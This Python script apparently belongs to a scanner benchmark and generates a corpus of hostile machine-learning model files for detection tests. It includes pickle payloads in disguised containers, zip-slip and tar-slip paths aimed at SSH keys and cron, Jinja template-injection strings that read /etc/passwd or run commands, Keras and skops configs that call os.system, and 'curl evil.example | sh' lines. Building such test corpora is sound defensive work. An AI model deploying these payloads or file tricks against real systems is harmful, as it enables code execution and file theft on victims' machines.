"""Hostile model files, assembled byte by byte: nothing here is ever loaded or run.

Run: ``python bench/_malicious_models.py FOLDER``.  Each payload (a function that should not be
reached, and how) goes into each pickle dialect, and one payload into each container, trick and
other format.  File names say what they are.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from _malicious_pickles import DIALECTS, EVIL, FRAMED, misuses, payloads, tricks


def containers() -> Iterator[tuple[str, bytes]]:
    """One hostile pickle in everything that can hold one."""
    for name, data in (("gz", gzip.compress(EVIL, mtime=0)), ("bz2", bz2.compress(EVIL)),
                       ("xz", lzma.compress(EVIL)), ("zlib", zlib.compress(EVIL)),
                       ("lzma", lzma.compress(EVIL, lzma.FORMAT_ALONE))):  # fmt: skip
        yield f"joblib-{name}.joblib", data
    for end in (
        "bin",
        "pt",
        "safetensors",
        "onnx",
        "json",
        "txt",
        "h5",
        "gguf",
        "npy",
        "md",
        "jpg",
    ):
        yield f"renamed-pickle.{end}", FRAMED
    yield "torch.pt", torch_zip(EVIL)
    yield "torch-deflated.pt", torch_zip(EVIL, zipfile.ZIP_DEFLATED)
    yield "torch-nested.pt", zipped({"archive/inner.zip": torch_zip(EVIL)})
    yield (
        "torch-constants.pt",
        zipped({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/constants.pkl": EVIL}),
    )
    yield (
        "torch-extra-pickle.pt",
        zipped({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/extra/x.pkl": EVIL}),
    )
    yield (
        "torch-storage-is-pickle.pt",
        zipped({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/data/0": EVIL}),
    )
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}."
    yield "torch-legacy.pt", magic + EVIL + b"\x80\x02]."
    yield "npy-objects.npy", npy(EVIL)
    yield "npz-objects.npz", zipped({"arr_0.npy": npy(EVIL)})
    yield "npy-header.npy", npy(b"", "{'descr': __import__('os').system('x'), 'shape': ()}")
    yield "zip.zip", zipped({"model.pkl": EVIL})
    yield "zip-in-zip.zip", zipped({"a.zip": zipped({"b.zip": zipped({"m.pkl": EVIL})})})
    yield "zip-slip.zip", zipped({"../../.ssh/authorized_keys": b"ssh-ed25519 AAAA"})
    yield (
        "zip-with-prefix.bin",
        b"\x08\x00\x00\x00\x00\x00\x00\x00{}      " + zipped({"m.pkl": EVIL}),
    )
    yield (
        "zip-encrypted-flag.pt",
        torch_zip(EVIL).replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        ),
    )
    yield "zip-wrong-crc.pt", broken_crc(torch_zip(EVIL))
    yield "zip-two-names.pt", doubled()
    yield "tar.tar", tarred({"model.pkl": EVIL})
    yield "nemo.nemo", gzip.compress(tarred({"model_weights.ckpt": EVIL}), mtime=0)
    yield "tar-slip.tar", tarred({"../../etc/cron.d/x": b"* * * * * root id\n"})
    yield "tar-link.tar", linked()
    yield "sevenzip.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
    yield "rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(40)
    yield "pickle-then-zip.pt", EVIL + zipped({"a.txt": b"x"})
    yield "shell.bin", b"#!/bin/sh\nid\n"
    yield "elf.bin", b"\x7fELF\x02\x01\x01" + bytes(57)


def others() -> Iterator[tuple[str, bytes]]:
    """Formats that run code without a pickle."""
    bad_template = "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}"
    for name, template in (
        ("mro", bad_template),
        ("globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("attr", "{{ lipsum|attr('__globals__') }}"),
        ("items", "{% set x = self['__init__'] %}{{ x }}"),
        ("joined", "{{ (''|attr('__cl' ~ 'ass__')) }}"),
        ("include", "{% include '/etc/passwd' %}"),
    ):
        told = json.dumps({"tokenizer_class": "X", "chat_template": template})
        yield f"template-{name}.json", told.encode()
        yield (
            f"template-list-{name}.json",
            json.dumps({"chat_template": [{"name": "default", "template": template}]}).encode(),
        )
        yield f"template-{name}.gguf", gguf(template)
        yield f"template-{name}.jinja", template.encode()
    yield (
        "auto-map.json",
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "evil--repo.Model"}}).encode(),
    )
    yield (
        "custom-pipelines.json",
        json.dumps(
            {"custom_pipelines": {"x": {"impl": "pipe.Pipe"}}, "auto_map": {"AutoConfig": "a.B"}}
        ).encode(),
    )
    lambda_layer = {
        "module": "keras.layers", "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAA"}}},
    }  # fmt: skip
    sequential = {"class_name": "Sequential", "config": {"layers": [lambda_layer]}}
    yield (
        "keras-lambda.keras",
        zipped({"config.json": json.dumps(sequential).encode(), "metadata.json": b"{}"}),
    )
    yield "keras-lambda.json", json.dumps(sequential).encode()
    function = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "system",
    }
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"activation": function}}
    yield (
        "keras-module.keras",
        zipped(
            {
                "config.json": json.dumps(
                    {"class_name": "Sequential", "config": {"layers": [dense]}}
                ).encode()
            }
        ),
    )
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "get_file"}  # fmt: skip
    yield "keras-get-file.keras", zipped({"config.json": json.dumps(get_file).encode()})
    skops = {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode",
             "content": {"module_path": "posix", "function": "system"}, "__id__": 1,
             "protocol": 2, "_skops_version": "0.16"}  # fmt: skip
    yield "skops-function.skops", zipped({"schema.json": json.dumps(skops).encode()})
    node = {**skops, "__loader__": "ObjectNode", "__class__": "Popen", "__module__": "subprocess"}
    yield "skops-object.skops", zipped({"schema.json": json.dumps(node).encode()})
    method = {**skops, "__loader__": "OperatorFuncNode", "__class__": "methodcaller",
              "__module__": "operator"}  # fmt: skip
    yield "skops-methodcaller.skops", zipped({"schema.json": json.dumps(method).encode()})
    first = b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},'
    header = first + b'"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}'
    yield "overlap.safetensors", struct.pack("<Q", len(header)) + header + bytes(6)
    yield "huge-header.safetensors", struct.pack("<Q", 1 << 60) + header
    gap = header.replace(b"[2,6]", b"[8,12]")
    yield "gap.safetensors", struct.pack("<Q", len(gap)) + gap + EVIL[:4] + bytes(8)
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "source": ["!curl evil.example | sh\n"], "outputs": [],
         "metadata": {}, "execution_count": None}]}  # fmt: skip
    yield "notebook.ipynb", json.dumps(notebook).encode()
    yield "modeling.py", b"import os\nos.system('curl evil.example | sh')\n"
    yield "torchscript.pt", zipped({
        "m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/constants.pkl": b"\x80\x02).",
        "m/code/__torch__.py": b"def forward(self):\n  return torch.ops.os.system(\"id\")\n",
    })  # fmt: skip
    yield "onnx-outside.onnx", onnx_external("../../../etc/passwd")
    yield "onnx-custom.onnx", onnx_custom()
    yield "saved_model.pb", saved_model("ReadFile")
    yield "saved-model-py.pb", saved_model("PyFunc")


# -- how containers are written --------------------------------------------------------------------


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def torch_zip(pickled: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    return zipped({"m/data.pkl": pickled, "m/byteorder": b"little", "m/version": b"3\n"}, method)


def broken_crc(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02") + 16
    return data[:at] + b"\xde\xad\xbe\xef" + data[at + 4 :]


def doubled() -> bytes:
    return zipped({"m/data.pkl": b"\x80\x02}.", "m/version": b"3\n", "m/dAta.pkl": EVIL}).replace(
        b"m/dAta.pkl", b"m/data.pkl"
    )


def tarred(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def linked() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("weights")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(info)
    return out.getvalue()


def npy(pickled: bytes, header: str = "") -> bytes:
    told = header or "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    padded = told + " " * (-(10 + len(told) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode() + pickled


def gguf(template: str) -> bytes:
    def string(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    values = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    told = b"".join(string(key) + struct.pack("<I", 8) + string(value) for key, value in values)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(values)) + told


def field(number: int, value: bytes | int) -> bytes:
    """One field of a protocol buffer."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def onnx_model(graph: bytes, domain: bytes = b"") -> bytes:
    opset = field(1, domain) + field(2, 17)
    return field(1, 8) + field(2, b"evil") + field(7, graph) + field(8, opset)


def onnx_external(path: str) -> bytes:
    location = field(1, b"location") + field(2, path.encode())
    tensor = field(1, 4) + field(2, 1) + field(8, b"w") + field(13, location) + field(14, 1)
    return onnx_model(field(2, b"g") + field(5, tensor))


def onnx_custom() -> bytes:
    node = field(1, b"x") + field(2, b"y") + field(4, b"PyOp") + field(7, b"ai.evil")
    return onnx_model(field(1, node) + field(2, b"g"), b"ai.evil")


def saved_model(operation: str) -> bytes:
    node = field(1, b"n") + field(2, operation.encode())
    return field(1, 1) + field(2, field(2, field(1, node)))


def make(folder: Path) -> int:
    """Write them all; how many."""
    folder.mkdir(parents=True, exist_ok=True)
    count = 0
    for module, name in payloads():
        for number, (dialect, write) in enumerate(DIALECTS.items()):
            # Every payload in the three usual dialects, the rarer ones in turn.
            if number > 2 and count % 3 != number - 3:
                continue
            (folder / f"global-{module}.{name}-{dialect}.pkl").write_bytes(write(module, name))
        count += 1
    for name, data in (*tricks(), *misuses()):
        (folder / f"trick-{name}.pkl").write_bytes(data)
    for name, data in (*containers(), *others()):
        (folder / name).write_bytes(data)
    return sum(1 for _ in folder.iterdir())


if __name__ == "__main__":
    print(json.dumps({"files": make(Path(sys.argv[1]))}))
